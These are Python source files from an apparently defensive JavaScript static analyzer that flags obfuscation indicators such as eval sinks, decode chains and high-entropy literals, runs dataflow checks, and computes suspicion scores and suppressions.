    # ------------------------------------------------------------------- API

    def rule_ids(self) -> list[str]:
        return [rule.id for rule in self.rules]

    def analyze(
        self,
        source: str,
        name: str = "<script>",
        line_map: dict[int, int] | None = None,
        raw_source: str | None = None,
    ) -> AnalysisReport:
        """Analyze one script; never raises.

        Args:
            source: the text to analyze (possibly a deobfuscated
                normalization of the original script).
            name: display name for the report.
            line_map: when ``source`` is normalized text, the
                normalized→raw line map from the normalization report;
                findings and witness hops gain ``raw_line`` spans mapped
                back to the original script.
            raw_source: the pre-normalization text, when ``source`` is
                normalized.  Normalization drops comments, so
                ``// repro-ignore`` directives are lexed from here and
                matched against the mapped-back ``raw_line`` spans.
        """
        started = time.perf_counter()
        try:
            report = self._analyze(source, name)
        except RecursionError:
            # Belt and braces: a blowup at the very stack edge (e.g. inside
            # an exception handler that itself has no frames left) still
            # becomes a structured report once the stack has unwound.
            report = AnalysisReport(
                name=name,
                findings=[
                    Finding(PARSE_ERROR_RULE_ID, "warning", 1, 0, "nesting too deep to analyze")
                ],
                score=SEVERITY_WEIGHT["warning"],
                parse_ok=False,
                error="recursion limit exceeded while analyzing",
            )
        report.elapsed_ms = 1000.0 * (time.perf_counter() - started)
        if line_map is not None:
            annotate_raw_spans(report, line_map)
            if raw_source is not None:
                apply_raw_suppressions(report, raw_source)
        if self.metrics is not None:
            self._m_scripts.inc()
            self._m_seconds.observe(report.elapsed_ms / 1000.0)
            if report.parse_ok:
                self._m_dataflow.observe(report.dataflow_ms / 1000.0)
            for finding in report.findings:
                counter = self._m_rule_hits.get(finding.rule_id)
                if counter is not None:
                    counter.inc()
        return report

    def analyze_batch(self, sources: list[str], names: list[str] | None = None) -> list[AnalysisReport]:
        if names is None:
            names = [f"<script:{i}>" for i in range(len(sources))]
        return [self.analyze(source, name) for source, name in zip(sources, names)]

    # ------------------------------------------------------------- internals

    def _analyze(self, source: str, name: str) -> AnalysisReport:
        if not isinstance(source, str):
            return AnalysisReport(
                name=name, parse_ok=False, error=f"source must be a string, got {type(source).__name__}"
            )
        try:
            parser = Parser(source)
            program = parser.parse()
            comments = parser.comments
        except JSSyntaxError as error:
            finding = Finding(
                rule_id=PARSE_ERROR_RULE_ID,
                severity="warning",
                line=error.line,
                col=error.column,
                message=f"syntax error: {error.message}",
            )
            return AnalysisReport(
                name=name,
                findings=[finding],
                score=SEVERITY_WEIGHT["warning"],
                parse_ok=False,
                error=str(error),
            )
        except RecursionError:
            return AnalysisReport(
                name=name,
                findings=[
                    Finding(PARSE_ERROR_RULE_ID, "warning", 1, 0, "nesting too deep to parse")
                ],
                score=SEVERITY_WEIGHT["warning"],
                parse_ok=False,
                error="recursion limit exceeded while parsing",
            )

        ctx = RuleContext(source, program, name)
        aborted: set[str] = set()
        self._walk(program, ctx, aborted)
        for rule in self.rules:
            try:
                rule.finish(ctx)
            except RecursionError:
                self._record_abort(ctx, rule.id, aborted)
            except Exception:
                self.rule_errors += 1

        suppressions = parse_suppressions(comments)
        kept: list[Finding] = []
        suppressed = 0
        suppressed_at: list[dict[str, object]] = []
        for finding in ctx.findings:
            matched_line = _suppression_line(finding, suppressions)
            if matched_line is not None:
                suppressed += 1
                suppressed_at.append({"rule_id": finding.rule_id, "line": matched_line})
            else:
                kept.append(finding)
        kept.sort(key=lambda f: (f.line, f.col, f.rule_id))

        weights = [
            DECISIVE_WEIGHT if f.decisive else SEVERITY_WEIGHT.get(f.severity, 0.2) for f in kept
        ]
        return AnalysisReport(
            name=name,
            findings=kept,
            score=combine_score(weights),
            decisive=any(f.decisive for f in kept),
            parse_ok=True,
            suppressed=suppressed,
            suppressed_at=suppressed_at,
            dataflow_ms=ctx.dataflow_ms,
        )

    def _walk(self, program: ast.Program, ctx: RuleContext, aborted: set[str]) -> None:
        """Single pre-order walk: record parents, dispatch node hooks."""
        hooks = self._hooks_by_type
        stack: list[ast.Node] = [program]
        parent_of = ctx.parent_of
        while stack:
            node = stack.pop()
            for rule in hooks.get(node.type, ()):
                try:
                    rule.visit(node, ctx)
                except RecursionError:
                    # The walk itself is iterative; only a rule (or the lazy
                    # dataflow facts it pulled) can blow the stack.  Convert
                    # the blowup into one structured finding per rule.
                    self._record_abort(ctx, rule.id, aborted)
                except Exception:
                    self.rule_errors += 1
            children = list(node.children())
            for child in children:
                parent_of[id(child)] = node
            stack.extend(reversed(children))

    @staticmethod
    def _record_abort(ctx: RuleContext, rule_id: str, aborted: set[str]) -> None:
        if rule_id in aborted:
            return
        aborted.add(rule_id)
        ctx.findings.append(
            Finding(
                rule_id=EXTRACT_ERROR_RULE_ID,
                severity="warning",
                line=1,
                col=0,
                message=f"rule {rule_id} aborted: nesting too deep to analyze",
            )
        )


def map_raw_line(line_map: dict[int, int], line: int) -> int | None:
    """Map a normalized line back to a raw line via a partial map.

    The normalization line map is statement-granular (rewritten nodes
    lose their original spans), so an exact entry may be missing; fall
    back to the nearest *preceding* mapped line — the enclosing surviving
    statement.
    """
    if not line_map:
        return None
    exact = line_map.get(line)
    if exact is not None:
        return exact
    best: int | None = None
    for normalized in line_map:
        if normalized <= line and (best is None or normalized > best):
            best = normalized
    return line_map[best] if best is not None else None


def annotate_raw_spans(report: AnalysisReport, line_map: dict[int, int]) -> None:
    """Attach pre-normalization ``raw_line`` spans to findings and hops."""
    for finding in report.findings:
        finding.raw_line = map_raw_line(line_map, finding.line)
        for hop in finding.witness:
            raw = map_raw_line(line_map, int(hop.get("line", 0)))
            if raw is not None:
                hop["raw_line"] = raw


def apply_raw_suppressions(report: AnalysisReport, raw_source: str) -> None:
    """Apply ``// repro-ignore`` directives from pre-normalization text.

    Runs after :func:`annotate_raw_spans`: a directive on the raw line a
    finding (or its witness source/sink hop) maps back to silences it,
    exactly as it would have had normalization not rewritten the comment
    away.  The score and decisive flag are refolded over the survivors.
    """
    suppressions = raw_suppressions(raw_source)
    if not suppressions:
        return
    kept: list[Finding] = []
    dropped = False
    for finding in report.findings:
        matched_line = _raw_suppression_line(finding, suppressions)
        if matched_line is not None:
            dropped = True
            report.suppressed += 1
            report.suppressed_at.append({"rule_id": finding.rule_id, "line": matched_line})
        else:
            kept.append(finding)
    if not dropped:
        return
    report.findings = kept
    weights = [
        DECISIVE_WEIGHT if f.decisive else SEVERITY_WEIGHT.get(f.severity, 0.2) for f in kept
    ]
    report.score = combine_score(weights)
    report.decisive = any(f.decisive for f in kept)


def analyze_source(source: str, name: str = "<script>") -> AnalysisReport:
    """One-shot convenience: full catalog, no metrics."""
    return Analyzer().analyze(source, name)
