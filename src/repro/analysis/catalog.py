"""The built-in rule catalog.

Three families, mirroring the issue's triage motivation:

* **Obfuscation indicators** — the concrete idioms obfuscated droppers
  lean on: dynamic code sinks (``eval``, ``new Function``, string-arg
  timers), decode chains feeding those sinks, high-entropy or
  escape-soup string literals, and bracket-style global API lookups.
* **Dataflow checks** — def-use and CFG facts the rest of the repo
  already computes: use-before-def, write-only variables, unreachable
  statements.
* **Hygiene checks** — constructs that defeat static reasoning
  (``with``), plus nesting/comma chains and leftover ``debugger``.

Every rule is independently registrable; :func:`default_rules` returns
fresh instances of the full catalog.
"""

from __future__ import annotations

import math

from repro.jsparser import ast_nodes as ast
from repro.jsparser.visitor import walk

from .rules import Rule, RuleContext

# --------------------------------------------------------------- name helpers

#: Global aliases stripped when normalizing callee names: `window.eval`,
#: `globalThis.atob` and bare `eval`/`atob` are the same sink.
_GLOBAL_ALIASES = ("window", "globalThis", "self", "top")

#: Callees that execute their (string) argument.
SINK_NAMES = frozenset(
    {"eval", "Function", "execScript", "setTimeout", "setInterval", "document.write", "document.writeln"}
)

#: Callees that turn encoded bytes back into text.
DECODE_NAMES = frozenset(
    {"String.fromCharCode", "unescape", "atob", "decodeURIComponent", "decodeURI"}
)


def callee_name(node: ast.Node | None, depth: int = 3) -> str | None:
    """Dotted name of a callee expression, or ``None`` when not static.

    Resolves ``Identifier``, non-computed member chains, and computed
    members with string-literal keys (``window["eval"]`` → ``window.eval``),
    then strips one leading global alias.
    """
    parts: list[str] = []
    current = node
    while depth > 0 and current is not None:
        if current.type == "Identifier":
            parts.append(current.name)
            break
        if current.type == "MemberExpression":
            prop = current.property
            if not current.computed and prop.type == "Identifier":
                parts.append(prop.name)
            elif current.computed and prop.type == "Literal" and isinstance(prop.value, str):
                parts.append(prop.value)
            else:
                return None
            current = current.object
            depth -= 1
            continue
        return None
    else:
        return None
    parts.reverse()
    if len(parts) > 1 and parts[0] in _GLOBAL_ALIASES:
        parts = parts[1:]
    return ".".join(parts)


def _call_name(node: ast.Node) -> str | None:
    """Normalized callee name for Call/New expressions."""
    if node.type not in ("CallExpression", "NewExpression"):
        return None
    return callee_name(node.callee)


def _contains_decode_call(node: ast.Node) -> ast.Node | None:
    """First decode-family call anywhere in ``node``'s subtree."""
    for descendant in walk(node):
        if _call_name(descendant) in DECODE_NAMES:
            return descendant
    return None


def _string_value(node: ast.Node) -> str | None:
    if node.type == "Literal" and isinstance(getattr(node, "value", None), str):
        return node.value
    if node.type == "TemplateLiteral":
        return node.value
    return None


def shannon_entropy(text: str) -> float:
    """Bits per character of the empirical character distribution."""
    if not text:
        return 0.0
    counts: dict[str, int] = {}
    for ch in text:
        counts[ch] = counts.get(ch, 0) + 1
    total = len(text)
    return -sum((c / total) * math.log2(c / total) for c in counts.values())


# ------------------------------------------------------- obfuscation indicators


class DynamicEvalRule(Rule):
    id = "dynamic-eval"
    severity = "error"
    description = "dynamic code execution via eval/Function"
    node_types = ("CallExpression", "NewExpression")

    def visit(self, node: ast.Node, ctx: RuleContext) -> None:
        name = _call_name(node)
        if name in ("eval", "Function", "execScript"):
            verb = "new Function" if node.type == "NewExpression" else f"{name}(…)"
            ctx.report(self, node, f"dynamic code execution via {verb}")


class TimerStringArgRule(Rule):
    id = "timer-string-arg"
    severity = "error"
    description = "setTimeout/setInterval with a string argument (implicit eval)"
    node_types = ("CallExpression",)

    def visit(self, node: ast.Node, ctx: RuleContext) -> None:
        name = _call_name(node)
        if name in ("setTimeout", "setInterval") and node.arguments:
            first = node.arguments[0]
            if _string_value(first) is not None or (
                first.type == "BinaryExpression" and _string_value(first.left) is not None
            ):
                ctx.report(self, node, f"{name} called with a string argument — implicit eval")


class LegacyDecodeChainRule(Rule):
    """Decoded data reaching a dynamic code sink — the PR 3 syntactic
    version, superseded by :class:`repro.analysis.flows.DecodeChainFlowRule`.

    Catches the direct nesting (``eval(atob(x))``) in the node hook and
    the variable-hop variant (``var s = unescape(p); … eval(s)``) in the
    finish pass via def-use chains.  Decisive: legitimate code has no
    business executing freshly decoded strings.  Kept (same rule id) as
    the baseline arm of the triage-precision A/B bench; not part of
    :func:`default_rules` anymore.
    """

    id = "decode-chain"
    severity = "error"
    decisive = True
    description = "string-decode output flows into a dynamic code sink"
    node_types = ("CallExpression", "NewExpression")

    def _state(self, ctx: RuleContext) -> dict[str, list[object]]:
        state = ctx.state.get(self.id)
        if state is None:
            state = {"sinks": [], "tainted_writes": []}
            ctx.state[self.id] = state
        return state

    def visit(self, node: ast.Node, ctx: RuleContext) -> None:
        name = _call_name(node)
        if name not in SINK_NAMES:
            return
        state = self._state(ctx)
        state["sinks"].append(node)
        for argument in node.arguments:
            decode = _contains_decode_call(argument)
            if decode is not None:
                ctx.report(
                    self,
                    node,
                    f"{_call_name(decode)} output passed straight into {name}",
                )
                return

    def finish(self, ctx: RuleContext) -> None:
        state = self._state(ctx)
        if not state["sinks"]:
            return
        defuse = ctx.defuse
        # Bindings whose definition right-hand side contains a decode call,
        # propagated to a fixpoint through variable-to-variable copies
        # (`var s = atob(p); var t = s + pad; eval(t)` taints both s and t).
        def_rhs: list[tuple[int, ast.Node]] = []
        for event in defuse.events:
            if event.kind != "def":
                continue
            parent = ctx.parent(event.node)
            rhs = None
            if parent is not None and parent.type == "VariableDeclarator":
                rhs = parent.init
            elif parent is not None and parent.type == "AssignmentExpression":
                rhs = parent.right
            if rhs is not None:
                def_rhs.append((id(event.binding), rhs))

        tainted = {
            binding_key
            for binding_key, rhs in def_rhs
            if _contains_decode_call(rhs) is not None
        }
        changed = bool(tainted)
        while changed:
            changed = False
            for binding_key, rhs in def_rhs:
                if binding_key in tainted:
                    continue
                for descendant in walk(rhs):
                    if descendant.type != "Identifier":
                        continue
                    event = defuse.event_of_node.get(id(descendant))
                    if event is not None and event.kind == "use" and id(event.binding) in tainted:
                        tainted.add(binding_key)
                        changed = True
                        break
        if not tainted:
            return
        reported = set()
        for sink in state["sinks"]:
            if id(sink) in reported:
                continue
            for argument in sink.arguments:
                hit = False
                for descendant in walk(argument):
                    if descendant.type != "Identifier":
                        continue
                    event = defuse.event_of_node.get(id(descendant))
                    if event is not None and event.kind == "use" and id(event.binding) in tainted:
                        ctx.report(
                            self,
                            sink,
                            f"decoded value {descendant.name!r} reaches {_call_name(sink)} via dataflow",
                        )
                        reported.add(id(sink))
                        hit = True
                        break
                if hit:
                    break


class HighEntropyLiteralRule(Rule):
    id = "high-entropy-literal"
    severity = "warning"
    description = "long high-entropy string literal (likely packed payload)"
    node_types = ("Literal", "TemplateLiteral")

    MIN_LENGTH = 40
    MIN_ENTROPY = 4.2

    def visit(self, node: ast.Node, ctx: RuleContext) -> None:
        value = _string_value(node)
        if value is None or len(value) < self.MIN_LENGTH:
            return
        entropy = shannon_entropy(value)
        if entropy >= self.MIN_ENTROPY:
            ctx.report(
                self,
                node,
                f"string literal of {len(value)} chars with entropy {entropy:.2f} bits/char",
            )


class EscapedStringSoupRule(Rule):
    id = "escaped-string-soup"
    severity = "warning"
    description = "string literal written almost entirely in hex/unicode escapes"
    node_types = ("Literal",)

    MIN_ESCAPES = 6
    MIN_FRACTION = 0.4

    def visit(self, node: ast.Node, ctx: RuleContext) -> None:
        raw = getattr(node, "raw", "") or ""
        if not isinstance(getattr(node, "value", None), str) or len(raw) < 8:
            return
        escapes = raw.count("\\x") + raw.count("\\u")
        if escapes < self.MIN_ESCAPES:
            return
        # \xNN is 4 chars, \uNNNN is 6 — approximate with the short form.
        if escapes * 4 / len(raw) >= self.MIN_FRACTION:
            ctx.report(self, node, f"{escapes} hex/unicode escapes hide this literal's content")


class SuspiciousGlobalBracketRule(Rule):
    id = "suspicious-global-bracket"
    severity = "warning"
    description = "bracket-style property access on a global object"
    node_types = ("MemberExpression",)

    def visit(self, node: ast.Node, ctx: RuleContext) -> None:
        if not node.computed or node.object.type != "Identifier":
            return
        if node.object.name not in ("window", "document", "globalThis", "self", "top"):
            return
        prop = node.property
        if prop.type == "Literal" and isinstance(prop.value, (int, float)) and not isinstance(prop.value, bool):
            return  # numeric indexing is not an API lookup
        if prop.type == "Literal" and isinstance(prop.value, str):
            detail = f'{node.object.name}["{prop.value}"] hides a direct property access'
        else:
            detail = f"{node.object.name}[…] with a computed key resolves APIs dynamically"
        ctx.report(self, node, detail)


class DocumentWriteRule(Rule):
    id = "document-write"
    severity = "warning"
    description = "document.write injects markup at parse time"
    node_types = ("CallExpression",)

    def visit(self, node: ast.Node, ctx: RuleContext) -> None:
        if _call_name(node) in ("document.write", "document.writeln"):
            ctx.report(self, node, "document.write/writeln call")


# --------------------------------------------------------------- dataflow rules


class UseBeforeDefRule(Rule):
    id = "use-before-def"
    severity = "warning"
    description = "variable read before any value is assigned"
    node_types = ()

    def finish(self, ctx: RuleContext) -> None:
        defuse = ctx.defuse
        seen: set[int] = set()
        for event in defuse.events:
            binding = event.binding
            if id(binding) in seen:
                continue
            if binding.kind not in ("var", "let", "const"):
                continue
            events = defuse.events_for(binding)
            if not events or events[0].kind != "use":
                seen.add(id(binding))
                continue
            if any(e.kind == "def" for e in events):
                ctx.report(
                    self,
                    events[0].node,
                    f"{binding.name!r} is read before it is ever assigned",
                )
            seen.add(id(binding))


class WriteOnlyVariableRule(Rule):
    id = "write-only-variable"
    severity = "info"
    description = "variable assigned but never read"
    node_types = ()

    def finish(self, ctx: RuleContext) -> None:
        defuse = ctx.defuse
        seen: set[int] = set()
        for event in defuse.events:
            binding = event.binding
            if id(binding) in seen:
                continue
            seen.add(id(binding))
            if binding.kind not in ("var", "let", "const"):
                continue
            events = defuse.events_for(binding)
            defs = [e for e in events if e.kind == "def"]
            uses = [e for e in events if e.kind == "use"]
            if defs and not uses:
                ctx.report(
                    self,
                    defs[0].node,
                    f"{binding.name!r} is assigned {len(defs)} time(s) but never read",
                )


class UnreachableCodeRule(Rule):
    """Statements control flow can never reach.

    The node hook catches code after a terminator inside any statement
    list (works inside function bodies too); the finish pass additionally
    checks CFG reachability from the program entry for flows the simple
    scan cannot see.
    """

    id = "unreachable-code"
    severity = "info"
    description = "statement is unreachable"
    node_types = ("Program", "BlockStatement", "SwitchCase")

    _TERMINATORS = frozenset(
        {"ReturnStatement", "ThrowStatement", "BreakStatement", "ContinueStatement"}
    )

    def _state(self, ctx: RuleContext) -> set[int]:
        state = ctx.state.setdefault(self.id, set())
        return state  # ids of statements already reported

    def visit(self, node: ast.Node, ctx: RuleContext) -> None:
        body = node.consequent if node.type == "SwitchCase" else node.body
        reported = self._state(ctx)
        terminated = False
        for stmt in body:
            if terminated:
                if id(stmt) not in reported and stmt.type != "FunctionDeclaration":
                    reported.add(id(stmt))
                    ctx.report(self, stmt, f"unreachable {stmt.type} after a terminating statement")
                break  # one finding per list is enough
            if stmt.type in self._TERMINATORS:
                terminated = True

    def finish(self, ctx: RuleContext) -> None:
        cfg = ctx.cfg
        if cfg.entry is None:
            return
        import networkx as nx

        reachable = {cfg.entry} | set(nx.descendants(cfg.graph, cfg.entry))
        component = nx.node_connected_component(cfg.graph.to_undirected(as_view=True), cfg.entry)
        reported = self._state(ctx)
        for key in component - reachable:
            stmt = cfg.node_of[key]
            if id(stmt) in reported or stmt.type == "FunctionDeclaration":
                continue
            reported.add(id(stmt))
            ctx.report(self, stmt, f"unreachable {stmt.type} (no CFG path from entry)")


# ---------------------------------------------------------------- hygiene rules


class WithStatementRule(Rule):
    id = "with-statement"
    severity = "warning"
    description = "with statement defeats lexical scoping"
    node_types = ("WithStatement",)

    def visit(self, node: ast.Node, ctx: RuleContext) -> None:
        ctx.report(self, node, "with statement makes every name lookup dynamic")


class DeepNestingRule(Rule):
    id = "deep-nesting"
    severity = "info"
    description = "deeply chained ternary or comma expression"
    node_types = ("ConditionalExpression", "SequenceExpression")

    MAX_TERNARY_CHAIN = 3
    MAX_SEQUENCE = 5

    def visit(self, node: ast.Node, ctx: RuleContext) -> None:
        if node.type == "SequenceExpression":
            if len(node.expressions) >= self.MAX_SEQUENCE:
                ctx.report(self, node, f"comma chain of {len(node.expressions)} expressions")
            return
        parent = ctx.parent(node)
        if parent is not None and parent.type == "ConditionalExpression":
            return  # only report at the head of a chain
        depth, cursor = 1, node
        while True:
            branches = [cursor.consequent, cursor.alternate]
            nested = next((b for b in branches if b.type == "ConditionalExpression"), None)
            if nested is None:
                break
            depth += 1
            cursor = nested
        if depth >= self.MAX_TERNARY_CHAIN:
            ctx.report(self, node, f"ternary chain {depth} levels deep")


class DebuggerStatementRule(Rule):
    id = "debugger-statement"
    severity = "info"
    description = "debugger statement left in code"
    node_types = ("DebuggerStatement",)

    def visit(self, node: ast.Node, ctx: RuleContext) -> None:
        ctx.report(self, node, "debugger statement (often anti-analysis bait)")


# --------------------------------------------------------------------- catalog


def _base_rules() -> list[Rule]:
    """The syntactic/def-use rules shared by both catalogs."""
    return [
        DynamicEvalRule(),
        TimerStringArgRule(),
        HighEntropyLiteralRule(),
        EscapedStringSoupRule(),
        SuspiciousGlobalBracketRule(),
        DocumentWriteRule(),
        UseBeforeDefRule(),
        WriteOnlyVariableRule(),
        UnreachableCodeRule(),
        WithStatementRule(),
        DeepNestingRule(),
        DebuggerStatementRule(),
    ]


def default_rules() -> list[Rule]:
    """Fresh instances of the full built-in catalog: the syntactic rules
    plus the interprocedural taint-flow rules (including the engine-backed
    ``decode-chain``)."""
    from .flows import flow_rules  # local import: flows.py imports this module

    return _base_rules() + flow_rules()


def legacy_rules() -> list[Rule]:
    """The PR 3 catalog (syntactic ``decode-chain``, no flow rules) —
    the baseline arm of the triage-precision A/B bench."""
    return _base_rules() + [LegacyDecodeChainRule()]
