"""The rule API: what a static-analysis check looks like to the driver.

A rule declares *what* it wants to see (``node_types`` — the AST hook) and
optionally a ``finish`` pass that runs once per script with the whole-
program facts (def-use chains, CFG) available through the shared
:class:`RuleContext`.  The :class:`~repro.analysis.analyzer.Analyzer`
dispatches every registered rule's node hooks in a single AST walk, so
adding a rule never adds a traversal.

Writing a rule::

    class NoDebugger(Rule):
        id = "debugger-statement"
        severity = "info"
        description = "debugger statements in shipped code"
        node_types = ("DebuggerStatement",)

        def visit(self, node, ctx):
            ctx.report(self, node, "debugger statement")

Rules fire findings via :meth:`RuleContext.report`; per-line suppression
(``// repro-ignore: <rule-id>``) is applied by the driver afterwards, so
rules never think about it.
"""

from __future__ import annotations

import time
from typing import TYPE_CHECKING, Optional

from repro.jsparser import ast_nodes as ast

from .findings import DECISIVE_WEIGHT, SEVERITY_WEIGHT, Finding

if TYPE_CHECKING:  # pragma: no cover
    from repro.dataflow.cfg import CFG
    from repro.dataflow.defuse import DefUseInfo
    from repro.jsparser.scope import ScopeAnalyzer

    from .dataflow import TaintResult


class Rule:
    """Base class for static-analysis rules.

    Class attributes (override in subclasses):

    * ``id`` — stable kebab-case identifier (suppression comments and
      metrics labels use it verbatim),
    * ``severity`` — ``"info" | "warning" | "error"``,
    * ``decisive`` — a hit alone justifies a malicious triage verdict;
      the scan fast-path may skip embedding entirely,
    * ``description`` — one line for docs and ``--list-rules`` style output,
    * ``node_types`` — AST node type names this rule's :meth:`visit`
      subscribes to; empty means no per-node hook.
    """

    id: str = "unnamed-rule"
    severity: str = "warning"
    decisive: bool = False
    description: str = ""
    node_types: tuple[str, ...] = ()

    def visit(self, node: ast.Node, ctx: "RuleContext") -> None:
        """Called for every node whose type is in ``node_types``."""

    def finish(self, ctx: "RuleContext") -> None:
        """Called once per script after the walk; CFG/def-use checks go here."""

    @property
    def weight(self) -> float:
        """Score contribution of one finding from this rule."""
        if self.decisive:
            return DECISIVE_WEIGHT
        return SEVERITY_WEIGHT.get(self.severity, 0.2)


class RuleContext:
    """Per-script shared state handed to every rule hook.

    Carries the parsed program, the raw source (split into lines for
    evidence excerpts), the parent links of the current walk, and *lazy*
    whole-program facts — def-use chains, CFG, and scope analysis are only
    computed when the first rule asks, so scripts that trip no dataflow
    rule never pay for them.
    """

    def __init__(self, source: str, program: ast.Program, name: str = "<script>") -> None:
        self.source = source
        self.program = program
        self.name = name
        self.lines = source.splitlines()
        self.findings: list[Finding] = []
        #: id(node) -> parent node, filled by the driver during its walk.
        self.parent_of: dict[int, ast.Node] = {}
        #: Per-rule scratch space (keyed by rule id) — rules are shared
        #: across scripts, so any state they accumulate lives here.
        self.state: dict[str, object] = {}
        self._defuse: Optional["DefUseInfo"] = None
        self._cfg: Optional["CFG"] = None
        self._scopes: Optional["ScopeAnalyzer"] = None
        self._taints: Optional["TaintResult"] = None
        #: wall-clock spent building lazy dataflow facts, for accounting
        self.dataflow_ms = 0.0
        #: wall-clock of the taint engine alone (the dataflow histogram)
        self.taint_ms = 0.0

    # ------------------------------------------------------------ navigation

    def parent(self, node: ast.Node) -> ast.Node | None:
        return self.parent_of.get(id(node))

    def source_line(self, line: int, max_chars: int = 120) -> str:
        """The 1-based source line, stripped and trimmed for evidence."""
        if 1 <= line <= len(self.lines):
            text = self.lines[line - 1].strip()
            return text[:max_chars]
        return ""

    # --------------------------------------------------------- lazy dataflow

    @property
    def scopes(self) -> "ScopeAnalyzer":
        if self._scopes is None:
            from repro.jsparser.scope import analyze_scopes

            started = time.perf_counter()
            self._scopes = analyze_scopes(self.program)
            self.dataflow_ms += 1000.0 * (time.perf_counter() - started)
        return self._scopes

    @property
    def defuse(self) -> "DefUseInfo":
        if self._defuse is None:
            from repro.dataflow.defuse import analyze_defuse

            scopes = self.scopes  # reuse one scope analysis for both
            started = time.perf_counter()
            self._defuse = analyze_defuse(self.program, scopes)
            self.dataflow_ms += 1000.0 * (time.perf_counter() - started)
        return self._defuse

    @property
    def cfg(self) -> "CFG":
        if self._cfg is None:
            from repro.dataflow.cfg import build_cfg

            started = time.perf_counter()
            self._cfg = build_cfg(self.program)
            self.dataflow_ms += 1000.0 * (time.perf_counter() - started)
        return self._cfg

    @property
    def taints(self) -> "TaintResult":
        """The interprocedural taint engine's result, computed once per
        script on first use (never raises — degraded results instead)."""
        if self._taints is None:
            from .dataflow import run_taint

            started = time.perf_counter()
            self._taints = run_taint(self.program)
            elapsed = 1000.0 * (time.perf_counter() - started)
            self.dataflow_ms += elapsed
            self.taint_ms += elapsed
        return self._taints

    # -------------------------------------------------------------- findings

    def report(
        self,
        rule: Rule,
        node: ast.Node | None = None,
        message: str = "",
        evidence: str | None = None,
        line: int | None = None,
        col: int | None = None,
        witness: list[dict[str, object]] | None = None,
    ) -> Finding:
        """Record one finding; span defaults to ``node.loc``.

        Flow rules pass ``witness`` — the ordered source→sink hop list —
        which rides on the finding through JSON, provenance, and the
        suppression matcher (a directive on the source *or* sink line
        silences the whole flow).
        """
        if line is None or col is None:
            loc = node.loc if node is not None else (0, 0)
            line = loc[0] if line is None else line
            col = loc[1] if col is None else col
        finding = Finding(
            rule_id=rule.id,
            severity=rule.severity,
            line=line,
            col=col,
            message=message or rule.description,
            evidence=self.source_line(line) if evidence is None else evidence,
            decisive=rule.decisive,
            witness=list(witness) if witness else [],
        )
        self.findings.append(finding)
        return finding
