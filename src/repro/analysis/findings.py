"""Structured findings: what a rule saw, where, and how bad it is.

A :class:`Finding` is the atomic unit of explainability — one rule firing
at one source span, with a human message and the offending source excerpt
as evidence.  :class:`AnalysisReport` aggregates a script's findings into
a bounded suspicion score plus the triage verdict inputs (``decisive``,
``parse_ok``) and round-trips through JSON for the CLI and the daemon.
"""

from __future__ import annotations

import json
from dataclasses import asdict, dataclass, field
from typing import Any

#: Severity levels, mildest first.  ``--fail-on`` and triage weighting both
#: key off this ordering.
SEVERITIES = ("info", "warning", "error")

SEVERITY_RANK = {name: rank for rank, name in enumerate(SEVERITIES)}

#: Score contribution per severity; findings combine as independent
#: evidence (noisy-or), so the score saturates toward 1.0 instead of
#: growing without bound on rule-dense scripts.
SEVERITY_WEIGHT = {"info": 0.05, "warning": 0.2, "error": 0.5}

#: Weight for findings from rules marked decisive — strong enough that a
#: single hit dominates the score.
DECISIVE_WEIGHT = 0.95


def severity_at_least(severity: str, floor: str) -> bool:
    """Is ``severity`` at or above ``floor``?  Unknown names never match."""
    return SEVERITY_RANK.get(severity, -1) >= SEVERITY_RANK.get(floor, len(SEVERITIES))


@dataclass
class Finding:
    """One rule firing at one source location."""

    rule_id: str
    severity: str  # "info" | "warning" | "error"
    line: int  # 1-based line of the offending construct
    col: int  # 0-based column
    message: str
    evidence: str = ""  # trimmed source excerpt (the offending line)
    decisive: bool = False  # did a decisive rule produce this?
    #: Flow findings carry their source→sink witness: ordered hop dicts
    #: ({"line", "col", "op", optional "snippet"/"raw_line"}), one per
    #: propagation step, first hop the source and last hop the sink.
    witness: list[dict[str, Any]] = field(default_factory=list)
    #: When the analyzed text was a deobfuscated normalization of the
    #: original script, the pre-normalization line this finding maps to.
    raw_line: int | None = None

    @property
    def span(self) -> tuple[int, int]:
        return (self.line, self.col)

    @property
    def source_line(self) -> int:
        """The witness source line (falls back to the finding line)."""
        if self.witness:
            return int(self.witness[0].get("line", self.line))
        return self.line

    @property
    def sink_line(self) -> int:
        """The witness sink line (falls back to the finding line)."""
        if self.witness:
            return int(self.witness[-1].get("line", self.line))
        return self.line

    def to_dict(self) -> dict[str, Any]:
        return asdict(self)

    @classmethod
    def from_dict(cls, data: dict[str, Any]) -> "Finding":
        return cls(**data)

    def format(self, name: str = "") -> str:
        """One ``path:line:col  severity  rule  message`` text line."""
        prefix = f"{name}:" if name else ""
        return f"{prefix}{self.line}:{self.col}  {self.severity:7s}  {self.rule_id}  {self.message}"


@dataclass
class AnalysisReport:
    """Everything the analyzer learned about one script."""

    name: str = "<script>"
    findings: list[Finding] = field(default_factory=list)
    score: float = 0.0  # saturating suspicion score in [0, 1)
    decisive: bool = False  # a decisive rule fired (triage may short-circuit)
    parse_ok: bool = True
    error: str | None = None  # syntax-error text when parse_ok is False
    suppressed: int = 0  # findings silenced by repro-ignore directives
    #: Where suppressed findings were silenced: one ``{"rule_id", "line"}``
    #: entry per silenced finding, ``line`` being the directive line that
    #: matched (the finding line, or a witness source/sink line).
    suppressed_at: list[dict[str, Any]] = field(default_factory=list)
    elapsed_ms: float = 0.0
    dataflow_ms: float = 0.0  # time inside lazy dataflow facts + taint engine

    @property
    def n_findings(self) -> int:
        return len(self.findings)

    def count_by_severity(self) -> dict[str, int]:
        counts = {severity: 0 for severity in SEVERITIES}
        for finding in self.findings:
            counts[finding.severity] = counts.get(finding.severity, 0) + 1
        return counts

    def max_severity(self) -> str | None:
        """The highest severity present, or ``None`` with no findings."""
        best: str | None = None
        for finding in self.findings:
            if best is None or SEVERITY_RANK.get(finding.severity, -1) > SEVERITY_RANK.get(best, -1):
                best = finding.severity
        return best

    def findings_at_least(self, floor: str) -> list[Finding]:
        return [f for f in self.findings if severity_at_least(f.severity, floor)]

    # ------------------------------------------------------------- serialize

    def to_dict(self) -> dict[str, Any]:
        return {
            "name": self.name,
            "score": round(self.score, 6),
            "decisive": self.decisive,
            "parse_ok": self.parse_ok,
            "error": self.error,
            "n_findings": self.n_findings,
            "suppressed": self.suppressed,
            "suppressed_at": list(self.suppressed_at),
            "elapsed_ms": round(self.elapsed_ms, 3),
            "dataflow_ms": round(self.dataflow_ms, 3),
            "severity_counts": self.count_by_severity(),
            "findings": [finding.to_dict() for finding in self.findings],
        }

